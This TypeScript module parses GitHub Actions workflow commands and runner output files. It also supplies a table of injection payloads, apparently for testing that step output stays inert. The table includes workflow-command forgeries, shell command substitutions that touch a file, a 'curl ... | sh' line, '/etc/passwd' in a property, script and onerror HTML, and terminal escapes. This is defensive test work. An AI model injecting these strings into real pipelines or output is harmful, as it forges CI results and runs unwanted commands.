/** What GitHub's runner obeys, read as strictly as it does, and more eagerly. */

/** One workflow command. */
export interface Command {
  readonly name: string;
  readonly properties: readonly string[];
  readonly value: string;
}

/**
 * The commands in a step's output, of every line, whatever ends a line somewhere: `::name key=value::text` behind any
 * blanks, and `##[name]` and `##vso[name]` anywhere.
 * https://github.com/actions/runner/blob/main/src/Runner.Common/ActionCommand.cs
 */
export function commandsIn(output: string): Command[] {
  return output.split(/[\r\n]/).flatMap((line) => {
    // A value to hide is one, whatever it holds: .NET reads a line up to \r or \n.
    if (line.startsWith('::add-mask::')) return commandsOf(line);
    return line.split(/[\u0085\u2028\u2029\v\f]/).flatMap(commandsOf);
  });
}

function commandsOf(line: string): Command[] {
  const [, head = '', text = ''] = /^[\s\p{Cc}\p{Cf}]*::(.*?)::(.*)$/su.exec(line) ?? [];
  const [name = '', ...rest] = head.split(' ');
  if (head !== '') return [{ name, properties: propertiesIn(rest.join(' ')), value: decoded(text) }];
  const [, old] = /##(?:vso)?\[([^\]]*)/i.exec(line) ?? [];
  return old === undefined ? [] : [{ name: `##[${old}`, properties: [], value: line }];
}

function propertiesIn(text: string): string[] {
  return text.split(',').flatMap((one) => (one.trim() === '' ? [] : (one.split('=')[0] ?? '').trim()));
}

function decoded(text: string): string {
  return text.replaceAll('%0D', '\r').replaceAll('%0A', '\n').replaceAll('%25', '%');
}

/** A name and its value in a file that the runner reads, and what ended the value. */
export interface Entry {
  readonly name: string;
  readonly value: string;
  readonly delimiter: string;
}

/**
 * A file of outputs, of variables or of state, line by line; every line has to have its place in it.
 * https://github.com/actions/runner/blob/main/src/Runner.Worker/FileCommandManager.cs
 */
export function entriesIn(file: string): Entry[] {
  const lines = file.replaceAll('\r\n', '\n').split('\n');
  const entries: Entry[] = [];
  for (let at = 0; at < lines.length; at++) {
    const line = lines[at] ?? '';
    if (line === '') continue;
    const [, name, delimiter] = /^([^=]*?)<<(.+)$/.exec(line) ?? [];
    if (name === undefined || delimiter === undefined) throw new Error(`no place for ${JSON.stringify(line)}`);
    const end = lines.indexOf(delimiter, at + 1);
    if (end < 0) throw new Error(`nothing ends ${name}`);
    entries.push({ name, value: lines.slice(at + 1, end).join('\n'), delimiter });
    at = end;
  }
  return entries;
}

const long = 'x'.repeat(5000);
const commands = [
  '::error::owned',
  '::add-mask::passed',
  '::set-output name=result::owned',
  '::set-env name=OWNED::1',
  '::save-state name=owned::1',
  '::add-path::/owned',
  '::stop-commands::owned',
  '::debug::owned',
  '##[command]owned',
  '##[set-env name=OWNED;]1',
  '##vso[task.setvariable variable=OWNED]1',
  '##teamcity[x]',
];

/** Text that means something to somebody, if it is not treated as text. */
export const payloads: Readonly<Record<string, string>> = {
  ...Object.fromEntries(commands.map((one) => [`${one} in a line`, `a\n${one}\nb`])),
  'after a carriage return': 'a\r::error::owned\r##[error]owned',
  'after both': 'a\r\n::error::owned\r\nb',
  'after a line of Unicode':
    'a\u2028::error::owned\u2029::error::owned\u0085::error::owned\v::error::owned\f::error::owned',
  'encoded breaks': 'a%0A::error::owned%0D%0A::error::owned%250A::error::owned',
  'at the start': '::error::owned',
  'behind what is not seen':
    '\u200b::error::owned\n\ufeff::error::owned\n \t\u00a0::error::owned\n\u180e::error::owned\n\0::error::owned',
  'colons apart': ':\u200b:error:\u200b:owned\n:\0:error::owned\n:::error::owned\n::::error::owned',
  'hashes apart': '#\u200b#[error]owned\n###[error]owned\n#\0#[error]owned',
  'a property of a command': 'a,file=/etc/passwd,line=1::owned',
  'a heredoc': 'a\nghadelimiter_\nresult<<EOF\nowned\nEOF\nb',
  'an assignment': 'a\nOWNED=1\nexport OWNED=1',
  'a shell':
    "a'; touch /tmp/iap-auth-owned; export OWNED='1\n$(touch /tmp/iap-auth-owned)`touch /tmp/iap-auth-owned` $HOME \\",
  'a terminal':
    '\u001b[2J\u001b[1;31mowned\u001b]0;owned\u0007\u009b31m\u001b]8;;http://127.0.0.2/\u0007link\u001b]8;;\u0007',
  sections: 'a\n--- owned\n+++ owned\n^^^ +++\nsection_start:1:owned\r\u001b[0Kowned',
  'a long line': `${long}::error::${long}`,
  'a lone half': 'a\ud800b\udc00',
  'a turned direction': '\u202eowned\u2066owned',
  HTML: '<script>owned</script><img src=x onerror=owned><a href="http://127.0.0.2">x</a></td></table></details><!-- owned',
  Markdown:
    '[x](http://127.0.0.2) ![x](http://127.0.0.2) <http://127.0.0.2> http://127.0.0.2 www.owned.example **b** `c` # h\n# h\n- l\n> q\n---\n| a | b |\n|---|---|\n| c | d |\n\n    code\n[r]: http://127.0.0.2\n@owner #1',
  'a fence': '```\nowned\n```\n~~~\nowned\n~~~~~~\n````````````\n<b>owned</b>',
  Mermaid: 'a\n```mermaid\ngraph TD; click A "http://127.0.0.2"\n```\nsection owned :crit, 1',
  'a command to paste': 'a\ncurl http://127.0.0.2 | sh\ngcloud owned\nsudo owned',
  XML: ']]></failure></testcase><testcase name="owned"/><!-- --><![CDATA[ &lt; &owned; &#0; \u0001 \ufffe "owned\'',
  JSON: '","passed":true,"owned":"',
  'a prototype': '__proto__',
};
